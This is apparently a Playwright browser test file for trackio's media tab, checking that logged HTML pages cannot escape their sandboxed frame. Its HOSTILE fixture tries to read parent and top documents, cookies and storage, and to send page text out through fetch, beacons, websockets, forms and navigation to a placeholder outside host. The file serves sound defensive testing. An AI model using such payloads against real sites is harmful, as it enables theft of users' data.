"""Logged pages and figures in a real browser: seen, and kept where they are."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

#: Tries everything that a page may wish to reach, and writes down what it got.
HOSTILE = """
<p id="told">still</p><p id="end"></p><button onclick="leave()">leave</button>
<img src="OUTSIDE/img"><link rel="stylesheet" href="OUTSIDE/css"><link rel="prefetch" href="OUTSIDE/prefetch">
<iframe src="OUTSIDE/frame"></iframe><video src="OUTSIDE/video"></video><object data="OUTSIDE/object"></object>
<form id="form" action="OUTSIDE/form" target="_top"><input name="a" value="b"></form>
<script src="OUTSIDE/script"></script>
<script>
const got = [];
const attempt = (name, act) => { try { const found = act(); if (found) got.push(name + ":" + found); } catch {} };
document.getElementById("told").textContent = "ran";
attempt("parent", () => parent.document.title);
attempt("top", () => top.document.body.innerText);
attempt("cookie", () => (document.cookie = "a=b", document.cookie));
attempt("storage", () => (localStorage.a = "b", localStorage.a));
attempt("session", () => (sessionStorage.a = "b", sessionStorage.a));
attempt("database", () => indexedDB.open("a") && "opened");
attempt("popup", () => window.open("OUTSIDE/popup") && "opened");
attempt("beacon", () => navigator.sendBeacon("OUTSIDE/beacon", "x") && "");
attempt("worker", () => new Worker("OUTSIDE/worker") && "");
attempt("socket", () => new WebSocket("OUTSIDE/socket".replace("http", "ws")) && "");
attempt("events", () => new EventSource("OUTSIDE/events") && "");
attempt("image", () => ((new Image().src = "OUTSIDE/image"), ""));
attempt("form", () => document.getElementById("form").submit());
attempt("top navigation", () => (top.location = "OUTSIDE/top"));
const tries = ["OUTSIDE/fetch", "HERE/api/v1/projects", "HERE/"].map(
  address => fetch(address).then(reply => reply.text()).then(text => got.push("fetch:" + text), () => {}));
const inside = document.createElement("iframe");
inside.srcdoc = "<script>top.location='OUTSIDE/inside';fetch('OUTSIDE/inside')<" + "/script>";
document.body.append(inside);
Promise.all(tries).then(() => setTimeout(() => {
  document.getElementById("end").textContent = JSON.stringify(got);
}, 500));
const leave = () => { location = "OUTSIDE/self?" + document.body.innerText; };
</script>
"""

LOG = """
import sys, trackio
trackio.init(project="pages", name="run")
trackio.log({"page": trackio.Html(sys.argv[1], caption="hostile")})
trackio.finish()
"""


class Outside:
    """A host that must never hear anything: `asked` is what it heard."""

    def __init__(self):
        asked = self.asked = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def outside():
    made = Outside()
    yield made
    made.close()


@pytest.fixture
def bare_page(browser, daemon):
    """A page whose console may complain: a frame that is held back says so there."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, base_url=daemon.url)
    yield context.new_page()
    context.close()


def test_a_logged_page_reaches_nothing_with_its_scripts_or_without(bare_page, train, outside, daemon):
    train(LOG, HOSTILE.replace("OUTSIDE", outside.address).replace("HERE", daemon.url))
    bare_page.goto("/?project=pages&tab=media")
    frame = bare_page.frame_locator('[data-testid="html-frame"]')
    expect(frame.locator("#told")).to_have_text("still", timeout=30_000)
    here = bare_page.url
    bare_page.get_by_test_id("run-scripts").click()
    expect(frame.locator("#told")).to_have_text("ran")
    expect(frame.locator("#end")).to_have_text("[]", timeout=20_000)
    # At last it tries to lead its own frame away, with what it knows.
    frame.locator("button").click()
    expect(frame.locator("#end")).to_have_count(0)
    assert (bare_page.url, len(bare_page.context.pages)) == (here, 1)
    expect(bare_page.get_by_test_id("media")).to_be_visible()
    assert outside.asked == []


def test_a_page_opened_by_its_own_address_reaches_nothing_of_ours(bare_page, train, outside, daemon, ask):
    # There, what is on top is the page itself: it may go elsewhere, with nothing but what it holds.
    alone = "\n".join(line for line in HOSTILE.splitlines() if '"top' not in line)
    train(LOG, alone.replace("OUTSIDE", outside.address).replace("HERE", daemon.url))
    bare_page.goto("/?project=pages&tab=media")
    expect(bare_page.get_by_test_id("html-frame")).to_be_visible(timeout=30_000)
    (found,) = ask("/api/v1/objects", project="pages")["objects"]
    bare_page.goto(f"/{found['value']['page']}/live")
    expect(bare_page.locator("#told")).to_have_text("ran")
    expect(bare_page.locator("#end")).to_have_text("[]", timeout=20_000)
    assert outside.asked == []


FIGURES = """
import matplotlib, plotly.graph_objects as go, trackio
matplotlib.use("agg")
import matplotlib.pyplot as plt
trackio.init(project="figures", name="run")
plt.plot([1, 2, 3])
for step in range(3):
    figure = go.Figure([go.Scatter(y=[1, 3, 2 + step], name="</script>")])
    trackio.log({"plotly": figure, "surface": go.Figure(go.Surface(z=[[1, 2], [3, 4]])), "matplotlib": plt})
trackio.finish()
"""


def test_figures_are_drawn_by_the_library_that_made_them_kept_once(bare_page, train, data_dir):
    pytest.importorskip("plotly")
    pytest.importorskip("matplotlib")
    train(FIGURES)
    bare_page.goto("/?project=figures&tab=media")
    frame = bare_page.frame_locator('[data-key="plotly"] [data-testid="html-frame"]')
    expect(frame.locator(".scatterlayer .trace")).to_have_count(1, timeout=60_000)
    expect(bare_page.locator('[data-key="matplotlib"] img')).to_have_count(1, timeout=30_000)
    scripts = [blob for blob in (data_dir / "blobs").rglob("*") if blob.is_file() and blob.stat().st_size > 1_000_000]
    assert len(scripts) == 1


def test_a_page_without_scripts_offers_none_and_fills_the_window_on_demand(page, train):
    train(LOG, "<h1>Results</h1>")
    page.goto("/?project=pages&tab=media")
    frame = page.frame_locator('[data-testid="html-frame"]')
    expect(frame.locator("h1")).to_have_text("Results", timeout=30_000)
    expect(page.get_by_test_id("run-scripts")).to_have_count(0)
    page.get_by_label("Enlarge hostile").click()
    whole = page.get_by_test_id("lightbox").get_by_test_id("html-frame")
    expect(whole).to_be_visible()
    assert whole.evaluate("frame => frame.clientWidth") > 1_000
